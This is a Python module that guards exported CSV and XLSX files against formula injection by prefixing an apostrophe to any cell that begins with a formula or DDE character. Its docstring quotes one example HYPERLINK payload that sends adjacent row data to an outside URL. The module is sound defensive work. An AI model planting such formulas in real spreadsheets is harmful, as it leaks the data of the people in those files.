"""Cells a spreadsheet program will show as text, never run as a formula.

Every CSV and XLSX the product writes passes each cell through :func:`safe_cell`: a value
typed into a form (a first name such as ``=HYPERLINK("http://…?leak="&C4,"Anna")``) must not
become a formula that sends the rows beside it elsewhere when SIVA or the ministry opens the
file (OWASP "CSV Injection").
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import TypeVar

# What a spreadsheet program reads as the start of a formula or of a command (DDE); the tab
# and carriage return let a value reach a formula in the next cell.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

T = TypeVar("T")


def safe_cell(value: T) -> T | str:
    """``value``, with a leading apostrophe when it is text a spreadsheet would run."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row: Iterable[T]) -> list[T | str]:
    return [safe_cell(value) for value in row]
